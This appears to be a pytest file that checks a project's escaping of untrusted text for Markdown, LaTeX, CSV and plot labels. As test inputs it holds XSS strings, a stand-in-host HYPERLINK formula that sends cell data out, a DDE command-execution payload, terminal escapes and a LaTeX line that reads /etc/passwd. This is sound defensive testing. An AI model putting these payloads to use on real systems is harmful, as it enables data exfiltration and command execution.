"""Texts of other people stay texts, in Markdown, LaTeX, CSV and pictures of tables."""

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

from sip.core import markup
from sip.metrics.confusion import write_confusion

NASTY = [
    "<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![x](http://e.vil/pixel.png)",
    "a|b|c",
    "**bold** `code` <!-- -->",
    "\x1b[31mred\x1b]0;title\x07",
    "one\n\n# two\r\n| three",
]


@pytest.mark.parametrize("text", NASTY)
def test_markdown_shows_a_text_and_nothing_else(text: str) -> None:
    made = markup.markdown(text)
    assert not re.search(r"<\S|\n|\r|[\x00-\x1f]", made)
    assert not re.search(r"(?<!\\)[|*`\[\]]", made)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40))
def test_latex_has_no_command_of_the_texts_own(text: str) -> None:
    made = markup.latex(text)
    for written in markup.LATEX.values():
        made = made.replace(written, "")
    assert not set(made) & set("\\{}$&#%_^~\n\x00")


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40))
def test_what_was_escaped_can_be_read_again(text: str) -> None:
    plain = " ".join(markup.CONTROL.sub("", text).split())
    made = markup.markdown(text).replace("&lt;", "<")
    assert re.sub(r"\\(.)", r"\1", made) == plain


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://e.vil?"&A1,"x")', '\'=HYPERLINK("http://e.vil?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("\t=1", "'\t=1"),
        ("\r\n =1", "'\r\n =1"),
        *((text, text) for text in ("-0.5", "+1e-05", "-inf", "nan", "-", "1.5", "cat", "a=b", "")),
    ],
)
def test_a_spreadsheet_finds_no_formula(text: str, expected: str) -> None:
    assert markup.cell(text) == expected
    stream = io.StringIO()
    csv.writer(stream).writerow([markup.cell(text)])
    assert next(csv.reader([stream.getvalue()]), [""])[0] == expected or "\n" in text


def test_a_line_for_a_terminal_has_nothing_to_obey() -> None:
    assert markup.line("a\x1b[2J\nb  c\x07\x9b") == "a[2J b  c"


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="needs LaTeX")
def test_latex_compiles(tmp_path: Path) -> None:
    texts = [*NASTY, "\\input{/etc/passwd} 100% $x_1^2$ ~#&"]
    body = "\n\n".join(markup.latex(text) for text in texts)
    text = f"\\documentclass{{article}}\\begin{{document}}\n{body}\n\\end{{document}}\n"
    (tmp_path / "t.tex").write_text(text)
    command = ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "t.tex"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True)
    assert done.returncode == 0 and b"root:" not in (tmp_path / "t.log").read_bytes()


def test_class_names_are_no_formulas_in_pictures(tmp_path: Path) -> None:
    names = ["$\\frac{1$", "a$b$c", "\\$5", "x" * 10_000]
    labels = torch.tensor([0, 1, 2, 3])
    write_confusion(torch.eye(4), labels, names, tmp_path / "confusion.png")
    assert (tmp_path / "confusion.png").stat().st_size > 1000
